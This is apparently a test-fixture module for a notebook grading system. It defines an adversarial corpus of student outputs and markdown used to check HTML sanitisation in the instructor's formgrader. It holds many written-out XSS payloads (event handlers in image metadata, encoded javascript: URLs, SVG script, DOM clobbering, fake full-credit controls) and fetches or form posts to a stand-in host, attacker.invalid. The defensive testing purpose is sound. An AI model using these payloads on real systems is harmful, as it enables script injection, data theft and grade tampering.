"""The adversarial corpus, rendering part (issue 18): what a student's outputs and markdown try to do in the
instructor's browser when formgrader shows the autograded notebook, and in the feedback page.

Each case is what the autograded notebook holds after grading: display outputs (data and metadata exactly as
``display(..., metadata=..., raw=True)`` stores them), markdown cells the student added, a written answer, tags
on the answer cell. ``build`` writes the submission for the class run (the outputs are produced by the
student's own code in the answer cell, after a wrong Q1, so the case earns Q2's 2 points and nothing more);
``tests/classroom/grading/test_render_sanitise.py`` renders the same content through formgrader's and the feedback's
exporter and
checks the HTML, and ``tests/classroom/grading/test_browser_formgrader_hostile.py`` opens it in a real formgrader in
Chromium.

Every payload that runs sets ``window.__pwned`` (or calls a ``PWNED`` name); every fetch it tries goes to
``attacker.invalid``. ``visible`` is a text the instructor must still read after cleaning.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat

from tests.adversarial.course import GOOD_Q2, WRONG_Q1, notebook_with, submit

# A 1x1 transparent PNG (valid image data: the image itself is never the attack).
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
JPEG = ("/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////"
        "////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=")
EVIL = "http://attacker.invalid"
RUN = "window.__pwned=1"


@dataclass(frozen=True)
class RenderCase:
    name: str
    kind: str
    outputs: tuple[dict[str, Any], ...] = ()  # {"data": {...}, "metadata": {...}} of display_data outputs
    markdown: tuple[str, ...] = ()  # markdown cells the student adds
    written: str | None = None  # the written (manually graded) answer
    tags: tuple[str, ...] = ()  # tags the student puts on the answer cell
    visible: str = ""  # text that must still be readable after cleaning
    expected: float = 2  # Q2 right, Q1 wrong

    def code(self) -> str:
        """The answer cell's code that leaves ``outputs`` in the notebook when the grader runs it."""
        lines = [WRONG_Q1, "import json", "from IPython.display import display"]
        for out in self.outputs:
            data, metadata = json.dumps(out["data"]), json.dumps(out.get("metadata", {}))
            lines.append(f"display(json.loads({data!r}), metadata=json.loads({metadata!r}), raw=True)")
        return "\n".join(lines)

    def build(self, course: Path, student: str, ctx: Any) -> None:
        """The class run's submission: Q1 wrong with the outputs, Q2 right, the markdown appended."""
        nb = notebook_with(course, self.code(), GOOD_Q2)
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "answer_q1" and self.tags:
                cell.metadata["tags"] = list(self.tags)
        # the student's own markdown cells first (above every cell formgrader binds), the written answer last
        nb.cells[:0] = [nbformat.v4.new_markdown_cell(text) for text in self.markdown]
        if self.written:
            nb.cells.append(nbformat.v4.new_markdown_cell(self.written))
        submit(course, student, nb)


def _png(metadata: dict[str, Any], mime: str = "image/png", data: str = PNG) -> dict[str, Any]:
    return {"data": {mime: data, "text/plain": "<Figure>"}, "metadata": metadata}


def _html(text: str) -> dict[str, Any]:
    return {"data": {"text/html": text, "text/plain": "html"}, "metadata": {}}


def _md(text: str) -> dict[str, Any]:
    return {"data": {"text/markdown": text, "text/plain": "md"}, "metadata": {}}


RENDER_CASES: list[RenderCase] = [
    RenderCase("img_width_handler", "image output whose metadata width is `1 onerror=...`",
               outputs=(_png({"image/png": {"width": f"1 onerror={RUN}"}}),
                        _png({"image/jpeg": {"width": f"1 onerror={RUN}"}}, "image/jpeg", JPEG))),
    RenderCase("img_height_handler", "image output whose metadata height carries a handler and a style",
               outputs=(_png({"image/png": {"height": f"1 onload={RUN} style=position:fixed;inset:0"}}),
                        _png({"image/png": {"width": "100%\" onerror=\"" + RUN, "height": "1e9"}}))),
    RenderCase("img_filenames", "image output whose metadata filenames point at a remote or script URL",
               outputs=(_png({"filenames": {"image/png": f"{EVIL}/pixel.png"}}),
                        _png({"filenames": {"image/jpeg": "javascript:" + RUN}}, "image/jpeg", JPEG),
                        _png({"filenames": {"image/png": "/api/contents/gradebook.db"}}))),
    RenderCase("full_credit_class", "`<div class=\"full-credit\">` around a written answer (formgrader binds it)",
               written='<div class="full-credit btn btn-success">My written answer: ask about bisphosphonates'
                       '</div>\n\n<button class="full-credit">Full credit</button>'
                       '<input class="score tabbable" id="written_q3" type="number" value="2">'
                       '<textarea class="comment" id="written_q3-comment">fine</textarea>',
               outputs=(_html('<div class="nbgrader_cell"><span class="full-credit mark-graded">ok</span></div>'),),
               visible="My written answer"),
    RenderCase("celltag_class", "cell tags that become classes on the cell (`celltag_x full-credit`)",
               tags=("x full-credit", "y nbgrader_cell tabbable")),
    RenderCase("entity_script_urls", "`jav&#x61;script:` and other entity-encoded or spaced script URLs",
               markdown=(f'<a href="jav&#x61;script:{RUN}">a1</a> <a href="&#106;avascript:{RUN}">a2</a> '
                         f'<a href="java&#09;script:{RUN}">a3</a> <a href="JaVaScRiPt:{RUN}">a4</a> '
                         f'<a href="vbscript:msgbox(1)">a5</a> <a href="data:text/html,<script>{RUN}</script>">a6</a>'
                         f' <a href=" &#x6A;avascript&colon;{RUN}">a7</a>',
                         f"[m1](jav&#x61;script:{RUN}) [m2](javascript:{RUN}) "
                         "[m3](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)"),
               outputs=(_html(f'<a href="jav&#x61;script:{RUN}">o1</a>'), _md(f"[o2](jav&#x61;script:{RUN})")),
               visible="a1"),
    RenderCase("style_urls", "style attributes, style elements and stylesheets with URLs",
               markdown=(f'<div style="background:url({EVIL}/bg.png)">s1</div>'
                         f'<style>@import url({EVIL}/x.css); body {{display:none}}</style>'
                         f'<link rel="stylesheet" href="{EVIL}/x.css">'
                         '<p style="position:fixed;top:0;left:0;width:100%;height:100%">s2</p>',),
               outputs=(_html(f'<span style="behavior:url(x.htc);background-image:url(\'{EVIL}/b\')">s3</span>'),
                        _png({"image/png": {"width": f"1 style=background-image:url({EVIL}/s.png)",
                                            "alt": "\" style=\"display:none"}})),
               visible="s1"),
    RenderCase("remote_fetches", "remote fetches: img src, srcset, media, frames, objects, base",
               markdown=(f'<img src="{EVIL}/pixel.png"> ![p]({EVIL}/md.png) <img srcset="{EVIL}/s.png 2x">'
                         f'<video poster="{EVIL}/v.png" src="{EVIL}/v.mp4"></video><audio src="{EVIL}/a.mp3">'
                         f'</audio><iframe src="{EVIL}/f"></iframe><object data="{EVIL}/o"></object>'
                         f'<embed src="{EVIL}/e"><base href="{EVIL}/"><input type="image" src="{EVIL}/i.png">'
                         '<img src="/api/contents/gradebook.db"> r1',),
               outputs=(_html(f'<img src="{EVIL}/o.png"><table background="{EVIL}/t.png"><tr><td>r2</td></tr>'
                              '</table>'),),
               visible="r2"),
    RenderCase("event_handlers", "event handlers in every case and encoding",
               markdown=(f'<details open ontoggle="{RUN}"><summary>e1</summary></details>'
                         f'<img src=x oNeRrOr="{RUN}"><b onmouseover="{RUN}">e2</b>'
                         f'<a href="#" onclick="{RUN}">e3</a><body onload="{RUN}">',),
               outputs=(_html(f"<div onpointerenter='{RUN}' tabindex=0 autofocus onfocus='{RUN}'>e4</div>"),
                        _png({"image/jpeg": {"height": f"1 onmouseover={RUN}"}}, "image/jpeg", JPEG)),
               visible="e2"),
    RenderCase("svg_script", "SVG with script: inline, as an image output, and a link to an SVG file that the "
               "Jupyter server would serve on the instructor's origin",
               markdown=('[my figure](figure.svg) <a href="./figure.svg">fig</a> '
                         '<a href="/files/autograded/mallory/ps_fixture/figure.svg">fig2</a> v2',),
               outputs=({"data": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}">'
                                                   f'<script>{RUN}</script><circle r="4"/></svg>',
                                  "text/plain": "svg"}, "metadata": {}},
                        _html(f'<svg><script>{RUN}</script><a xlink:href="javascript:{RUN}"><text>v1</text></a>'
                              f'<animate onbegin="{RUN}" attributeName="x"/></svg>'),
                        _html(f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">')),
               visible="v2"),
    RenderCase("markdown_raw_html", "markdown cells with raw HTML: script, forms, meta refresh, comments",
               markdown=(f"# Notes\n\n<script>{RUN}</script>\n\n"
                         f'<form action="{EVIL}/steal" method="post"><input name="x"><button>go</button></form>\n\n'
                         f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">\n\n'
                         f'<noscript><p title="</noscript><img src=x onerror={RUN}>">n1</p></noscript>\n\n'
                         f'<!-- <img src=x onerror="{RUN}"> --> **n2**\n\n'
                         f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',),
               visible="n2"),
    RenderCase("active_outputs", "Javascript, widget and isolated-HTML outputs",
               outputs=({"data": {"application/javascript": RUN, "text/plain": "js"}, "metadata": {}},
                        {"data": {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2,
                                                                                 "version_minor": 0},
                                  "text/plain": "w"}, "metadata": {}},
                        {"data": {"text/html": f"<script>{RUN}</script>i1"},
                         "metadata": {"text/html": {"isolated": True}}})),
    RenderCase("dom_clobbering", "ids and names of formgrader's own elements (a heading's anchor id too)",
               markdown=("# written_q3\n\n## statusmessage\n\n<h3 id='written_q3-comment'>c3</h3>",),
               outputs=(_html('<img name="submission_id" src="x"><a id="statusmessage">c1</a>'
                              '<form name="notebook_id"></form><div id="written_q3">c2</div>'),),
               visible="c1"),
]
